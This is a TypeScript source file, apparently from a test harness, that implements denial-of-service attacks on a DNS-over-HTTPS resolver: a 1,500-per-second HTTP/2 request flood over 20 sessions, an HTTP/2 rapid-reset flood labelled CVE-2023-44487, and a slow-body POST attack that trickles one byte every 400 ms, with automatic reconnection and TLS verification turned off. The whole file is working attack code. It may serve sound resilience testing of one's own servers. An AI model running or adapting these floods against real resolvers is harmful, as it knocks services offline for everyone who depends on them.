/** Attacks by DNS over HTTPS. */
import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';
import { connect as connectTls } from 'node:tls';
import { connect as connectTcp } from 'node:net';
import { encodeQuery } from '../../deployment/dns-message.js';
import { ATTACKER, POPULAR_ZONE, SERVER } from '../shared/target.js';
import { type Attack, type AttackContext, pace } from './attack.js';

const SESSIONS = 20;
const REQUESTS_PER_SECOND = 1_500;
const RESETS_PER_SECOND = 2_000;
const SLOW_REQUESTS_PER_SECOND = 300;
const SLOW_BYTE_MS = 400;
const HEADERS = { ':path': '/dns-query', 'content-type': 'application/dns-message' };

/** Many requests at once over many connections. */
export const requests: Attack = (context) =>
  overSessions(context, REQUESTS_PER_SECOND, (session, n) => {
    const query = encodeQuery(0, `n${n % 50}.${POPULAR_ZONE}`).toString('base64url');
    const stream = session.request({ ':path': `/dns-query?dns=${query}` });
    stream.on('response', ({ ':status': status }) => context.counts.add(`status ${status ?? 0}`));
    return stream;
  });

/** Requests that are reset at once (CVE-2023-44487). */
export const resets: Attack = (context) =>
  overSessions(context, RESETS_PER_SECOND, (session, n) => {
    const query = encodeQuery(0, `n${n % 50}.${POPULAR_ZONE}`).toString('base64url');
    const stream = session.request({ ':path': `/dns-query?dns=${query}` });
    stream.close(constants.NGHTTP2_CANCEL);
    return stream;
  });

/** Bodies of which a byte comes now and then. */
export const slowBodies: Attack = (context) =>
  overSessions(context, SLOW_REQUESTS_PER_SECOND, (session) => {
    const stream = session.request({ ...HEADERS, ':method': 'POST', 'content-length': 4_000 });
    stream.on('response', ({ ':status': status }) => context.counts.add(`status ${status ?? 0}`));
    const timer = setInterval(() => {
      if (context.signal.aborted || stream.destroyed) return clearInterval(timer);
      stream.write('x');
    }, SLOW_BYTE_MS);
    return stream;
  });

/** Makes requests over connections in turn. Those that the resolver closes are opened again. */
async function overSessions(
  context: AttackContext,
  perSecond: number,
  request: (session: ClientHttp2Session, n: number) => ClientHttp2Stream,
): Promise<void> {
  const { counts } = context;
  const sessions: (ClientHttp2Session | null)[] = Array.from({ length: SESSIONS }, () => null);
  await pace(context, perSecond, (n) => {
    const at = n % SESSIONS;
    const session = (sessions[at] ??= open(context, () => (sessions[at] = null)));
    if (session.closed || session.destroyed) return;
    counts.add('requests');
    request(session, n)
      .on('error', () => counts.add('failed'))
      .resume();
  });
}

function open({ target, counts }: AttackContext, onClose: () => void): ClientHttp2Session {
  counts.add('connections');
  const session = connect(`https://${SERVER}`, {
    createConnection: () =>
      connectTls({
        socket: connectTcp({ host: SERVER, port: target.httpsPort, localAddress: ATTACKER }),
        rejectUnauthorized: false,
        ALPNProtocols: ['h2'],
      }),
  });
  session.on('error', () => session.destroy());
  session.on('close', () => {
    counts.add('connections closed');
    onClose();
  });
  session.on('goaway', onClose);
  return session;
}
